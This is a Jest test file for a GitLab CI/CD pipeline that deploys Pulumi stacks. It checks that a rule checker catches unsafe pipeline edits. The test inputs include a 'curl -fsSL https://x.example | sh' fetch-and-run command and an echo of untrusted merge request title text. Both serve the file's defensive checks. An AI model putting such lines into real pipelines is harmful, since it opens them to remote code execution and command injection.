/** The pipeline for GitLab, by the same rules, and its two helpers against a server that answers as GitLab does. */
import { execFile, execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { type IncomingMessage, type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { parse } from "yaml";
import { type Bag, gitlabFaultsOf, gitlabJobs } from "./rules.ts";

const FOLDER = join(import.meta.dirname, "..", "..", "examples", "gitlab");

const pipeline = (): Bag => parse(readFileSync(join(FOLDER, ".gitlab-ci.yml"), "utf8")) as Bag;
const jobs = gitlabJobs(pipeline());

describe("the pipeline", () => {
  test("has a job of each kind for each stack", () => {
    const names = ["dev", "staging", "prod"].flatMap((stack) => [`preview-${stack}`, `deploy-${stack}`]);
    expect(Object.keys(jobs).sort()).toEqual([...names, "drift", "sandbox", "tell-drift"].sort());
    for (const name of names) expect(jobs[name]?.environment?.name).toBe(name);
  });

  test("breaks none of the rules", () => {
    expect(gitlabFaultsOf(pipeline())).toEqual([]);
  });

  /** A careless change: what it is, the change, and what is said of it. */
  const careless: [what: string, change: (it: Record<string, Mutable>) => unknown, said: string][] = [
    ["a preview for forks", (it) => (it[".preview"]!.rules[0]!.if = MERGE_REQUEST), "of forks"],
    ["a preview by itself", (it) => delete it[".preview"]!.rules[0]!.when, "by itself"],
    ["that of prod", (it) => (it["preview-prod"]!.environment = { name: "deploy-prod" }), "not for previews"],
    ["no environment", (it) => delete it["preview-dev"]!.environment, "a stack without an environment"],
    ["another action", (it) => delete it["preview-dev"]!.environment!.action, "that everybody may use"],
    ["up", (it) => (it[".preview"]!.script = ["pulumi up --yes"]), "changes a stack outside a deployment"],
    ["up on any branch", (it) => (it[".deploy"]!.rules[0]!.if = '$CI_PIPELINE_SOURCE == "push"'), "other branches"],
    ["up by a schedule", (it) => (it.drift!.script = ["pulumi up --yes"]), "changes a stack outside a deployment"],
    ["two at once", (it) => delete it["deploy-prod"]!.resource_group, "can meet another"],
    ["up that is cut off", (it) => (it[".deploy"]!.interruptible = true), "be cut off"],
    ["no policy pack", (it) => (it[".deploy"]!.script = ["pulumi up --stack prod --yes"]), "by the policy pack"],
    [
      "a schedule of a branch",
      (it) => (it.drift!.rules[0]!.if = '$CI_PIPELINE_SOURCE == "schedule"'),
      "other branches",
    ],
    ["an issue beside the secrets", (it) => it.drift!.script.push("node issue.mjs"), "beside the credentials"],
    ["text in a command", (it) => (it.sandbox!.script = ['echo "$CI_MERGE_REQUEST_TITLE"']), "text of others"],
    ["a job for everything", (it) => (it.sandbox!.rules = []), "no rules"],
    ["a script of the net", (it) => (it.sandbox!.script = ["curl -fsSL https://x.example | sh"]), "what it downloads"],
  ];
  test.each(careless)("is held by a rule from %s", (_, change, said) => {
    const changed = pipeline();
    change(changed as Record<string, Mutable>);
    expect(gitlabFaultsOf(changed).join("\n")).toContain(said);
  });

  test("gives all merge requests the sandbox, and every job that runs the engine an image that has it", () => {
    expect(jobs.sandbox).toMatchObject({ script: ["npm run sandbox"] });
    expect(jobs.sandbox).not.toHaveProperty("environment");
    const engine = Object.entries(jobs).filter(([, { script }]) => script?.some((line) => line.startsWith("pulumi ")));
    expect(engine).toHaveLength(6);
    for (const [, { image }] of engine) expect(image).toMatchObject({ name: expect.stringMatching(/^pulumi\//) });
  });

  test("tells of each stack, also of one that could not be looked at", () => {
    const folder = mkdtempSync(join(tmpdir(), "gitlab-drift-"));
    writeFileSync(join(folder, "drift-staging.md"), "Stack staging: drift.\n");
    execFileSync("sh", ["-ec", jobs["tell-drift"]!.script![0]!], { cwd: folder });
    const told = readFileSync(join(folder, "drift.md"), "utf8");
    rmSync(folder, { recursive: true });
    expect(told).toBe(
      "Stack dev - nothing could be looked at.\n\nStack staging: drift.\n\nStack prod - nothing could be looked at.\n\n",
    );
  });
});

const MERGE_REQUEST = '$CI_PIPELINE_SOURCE == "merge_request_event"';

interface Mutable {
  rules: { if?: string; when?: string }[];
  script: string[];
  environment?: { name: string; action?: string };
  resource_group?: string;
  interruptible?: boolean;
}

describe.each([
  ["note.mjs", "body", "merge_requests/7/notes"],
  ["issue.mjs", "description", "issues"],
])("%s", (script, field, path) => {
  let server: Server;
  let folder: string;
  let stored: Record<string, unknown>[];
  let asked: string[];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "gitlab-"));
    server = createServer((request, response) => {
      void bodyOf(request).then((given) => {
        asked.push(
          `${request.method} ${(request.url ?? "").split("?")[0]} ${String(request.headers["private-token"])}`,
        );
        if (request.method === "POST") stored.push({ id: 41 + stored.length, iid: 41 + stored.length, ...given });
        if (request.method === "PUT") Object.assign(stored.at(-1)!, given);
        response.end(JSON.stringify(request.method === "GET" ? stored : stored.at(-1)));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  });
  afterAll(() => {
    server.close();
    rmSync(folder, { recursive: true });
  });
  beforeEach(() => {
    stored = [{ id: 40, iid: 40, body: "### Preview of prod\n", title: "Drift of prod" }];
    asked = [];
  });

  const run = (text: string, token?: string) => {
    const file = join(folder, "text");
    writeFileSync(file, text);
    const title = script === "note.mjs" ? "Preview of dev" : "Drift of dev";
    return promisify(execFile)(process.execPath, [join(FOLDER, script), title, file], {
      env: {
        CI_API_V4_URL: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
        ...{ CI_PROJECT_ID: "3", CI_MERGE_REQUEST_IID: "7" },
        ...(token && { GITLAB_TOKEN: token }),
      },
    });
  };

  test("makes one, and then keeps that one up to date", async () => {
    await run("first", "t");
    await run("second", "t");
    const list = `/projects/3/${path}`;
    expect(asked).toEqual([`GET ${list} t`, `POST ${list} t`, `GET ${list} t`, `PUT ${list}/42 t`]);
    expect(stored).toHaveLength(2);
    expect(stored[1]![field]).toContain("second");
    expect(stored[1]![field]).not.toContain("first");
  });

  test("says what it needs", async () => {
    await expect(run("x")).rejects.toMatchObject({ stderr: expect.stringContaining("GITLAB_TOKEN are needed") });
    expect(asked).toEqual([]);
  });
});

async function bodyOf(request: IncomingMessage): Promise<Record<string, unknown>> {
  let text = "";
  for await (const chunk of request as AsyncIterable<Buffer>) text += chunk.toString();
  return text === "" ? {} : (JSON.parse(text) as Record<string, unknown>);
}
